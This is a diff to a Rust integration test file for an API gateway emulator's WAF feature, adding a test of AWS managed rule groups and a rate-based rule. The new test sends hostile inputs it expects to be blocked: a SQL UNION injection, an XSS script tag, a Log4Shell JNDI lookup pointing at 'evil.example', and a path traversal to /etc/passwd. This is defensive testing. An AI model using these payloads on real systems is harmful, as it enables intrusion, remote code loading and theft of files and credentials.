@@ -68,11 +68,17 @@ const WEB_ACL: &str = r#"{
 
 /// Runs tests/scripts/waf.py against the node; its JSON answer.
 fn drive_boto3(node: &Node) -> Value {
+    run_script(node, "waf.py", WEB_ACL)
+}
+
+/// Runs a script of tests/scripts with the node's endpoint, keys, region,
+/// the stage `guarded/prod` and `acl` written to a file; its JSON answer.
+fn run_script(node: &Node, script: &str, acl: &str) -> Value {
     let keys = node.admin_keys().expect("admin keys");
     let dir = tempfile_dir();
     let acl_path = dir.join("web-acl.json");
-    std::fs::write(&acl_path, WEB_ACL).expect("write the ACL");
-    let script = format!("{}/scripts/waf.py", env!("CARGO_MANIFEST_DIR"));
+    std::fs::write(&acl_path, acl).expect("write the ACL");
+    let script = format!("{}/scripts/{script}", env!("CARGO_MANIFEST_DIR"));
     let python = apigw_tests::python::python_with_lambda_ric().expect("python with boto3");
     let out = std::process::Command::new(python)
         .args([
@@ -96,8 +102,14 @@ fn drive_boto3(node: &Node) -> Value {
     serde_json::from_slice(&out.stdout).expect("the script's JSON")
 }
 
+static NEXT_DIR: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+
 fn tempfile_dir() -> std::path::PathBuf {
-    let dir = std::env::temp_dir().join(format!("apigw-waf-test-{}", std::process::id()));
+    let dir = std::env::temp_dir().join(format!(
+        "apigw-waf-test-{}-{}",
+        std::process::id(),
+        NEXT_DIR.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
+    ));
     std::fs::create_dir_all(&dir).expect("scratch dir");
     dir
 }
@@ -216,6 +228,20 @@ async fn a_pasted_web_acl_guards_its_stage_before_the_resource_policy() {
     assert_eq!(teapot.header("why"), Some("teapot"));
     assert_eq!(teapot.header("content-type"), Some("application/json"));
 
+    // GetStage names the web ACL; /metrics counts per rule.
+    let admin = node.admin_client();
+    let stage = admin
+        .get("/restapis/guarded/stages/prod")
+        .await
+        .expect("stage")
+        .json();
+    assert_eq!(stage["webAclArn"], seen["acl_arn"], "{stage}");
+    let metrics = admin.get("/metrics").await.expect("metrics").text();
+    assert!(
+        metrics.contains("apigw_waf_requests_total{metric=\"sqli\",action=\"blocked\"} 2"),
+        "{metrics}"
+    );
+
     // One AWS WAF log record per inspected request.
     let record = node
         .wait_for_log(|l| {
@@ -226,4 +252,137 @@ async fn a_pasted_web_acl_guards_its_stage_before_the_resource_policy() {
         .expect("a WAF log record of the SQLi block");
     assert!(record.to_string().contains("BLOCK"), "{record}");
     node.stop().expect("stops");
+}
+
+/// The three managed groups and a rate-based rule, as users paste them.
+const MANAGED_AND_RATE: &str = r#"{
+  "Name": "managed-and-rate",
+  "DefaultAction": {"Allow": {}},
+  "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "managed-and-rate"},
+  "Rules": [
+    {"Name": "common", "Priority": 0, "OverrideAction": {"None": {}},
+     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet"}},
+     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "common"}},
+    {"Name": "bad-inputs", "Priority": 1, "OverrideAction": {"None": {}},
+     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet"}},
+     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "bad-inputs"}},
+    {"Name": "sqli-set", "Priority": 2, "OverrideAction": {"None": {}},
+     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesSQLiRuleSet"}},
+     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "sqli-set"}},
+    {"Name": "per-ip", "Priority": 3, "Action": {"Block": {}},
+     "Statement": {"RateBasedStatement": {"Limit": 10, "EvaluationWindowSec": 60, "AggregateKeyType": "IP",
+       "ScopeDownStatement": {"ByteMatchStatement": {"SearchString": "/limited", "FieldToMatch": {"UriPath": {}},
+         "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "ENDS_WITH"}}}},
+     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "per-ip"}}
+  ]
+}"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn managed_groups_block_attacks_and_rate_rules_count_through_the_node_counters() {
+    let backend = Backend::echo().await;
+    let node = Node::builder()
+        .file("api.yaml", &API.replace("BACKEND", &backend.url()))
+        .config("apis:\n  - {id: guarded, openapi: api.yaml, stages: [{name: prod}]}\n")
+        .start()
+        .expect("node starts");
+    let made = run_script(&node, "waf_associate.py", MANAGED_AND_RATE);
+    // Common 700 + KnownBadInputs 200 + SQLi 200, plus the rate-based rule.
+    assert!(
+        made["capacity"].as_u64().is_some_and(|c| c >= 1100),
+        "{made}"
+    );
+    let client = Client::default();
+    // KnownBadInputs blocks `Host: localhost` and loopback hosts, as AWS's
+    // does: the requests name the host a real client would.
+    let send = |method: Method,
+                path: &str,
+                mut headers: Vec<(&'static str, &'static str)>,
+                body: &'static str| {
+        let url = node.invoke_url("guarded", "prod", path);
+        let client = &client;
+        headers.push(("host", "api.example.com"));
+        async move {
+            client
+                .send(method, &url, &headers, body)
+                .await
+                .expect("reply")
+                .status
+        }
+    };
+    // Ordinary API traffic passes the three groups.
+    assert_eq!(
+        send(
+            Method::GET,
+            "/pets?q=o%27brien&limit=10",
+            vec![("user-agent", "curl/8")],
+            ""
+        )
+        .await,
+        200,
+        "{}",
+        last_waf_record(&node)
+    );
+    assert_eq!(
+        send(
+            Method::POST,
+            "/pets",
+            vec![
+                ("user-agent", "curl/8"),
+                ("content-type", "application/json")
+            ],
+            r#"{"name": "Rex \"the dog\"", "note": "it's fine"}"#
+        )
+        .await,
+        200
+    );
+    // Attacks each group names are blocked.
+    for (path, headers, body) in [
+        (
+            "/pets?id=1%20UNION%20SELECT%20password%20FROM%20users--",
+            vec![("user-agent", "curl/8")],
+            "",
+        ),
+        (
+            "/pets?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+            vec![("user-agent", "curl/8")],
+            "",
+        ),
+        (
+            "/pets",
+            vec![("user-agent", "${jndi:ldap://evil.example/a}")],
+            "",
+        ),
+        (
+            "/pets?file=..%2F..%2F..%2Fetc%2Fpasswd",
+            vec![("user-agent", "curl/8")],
+            "",
+        ),
+        ("/pets", vec![], ""),
+    ] {
+        assert_eq!(
+            send(Method::GET, path, headers.clone(), body).await,
+            403,
+            "{path} {headers:?}"
+        );
+    }
+    // Rate-based: the 11th request within the window is over the limit of 10.
+    let mut statuses = Vec::new();
+    for _ in 0..12 {
+        statuses.push(send(Method::GET, "/limited", vec![("user-agent", "curl/8")], "").await);
+    }
+    assert_eq!(&statuses[..10], &[200; 10], "{statuses:?}");
+    assert_eq!(&statuses[10..], &[403, 403], "{statuses:?}");
+    // Other paths are outside the scope-down.
+    assert_eq!(
+        send(Method::GET, "/pets", vec![("user-agent", "curl/8")], "").await,
+        200
+    );
+    node.stop().expect("stops");
+}
+
+/// The latest WAF log record (for failure messages).
+fn last_waf_record(node: &Node) -> String {
+    node.wait_for_log(|l| l["target"] == "apigw::waf")
+        .map(|l| l.to_string())
+        .unwrap_or_else(|e| e.to_string())
 }
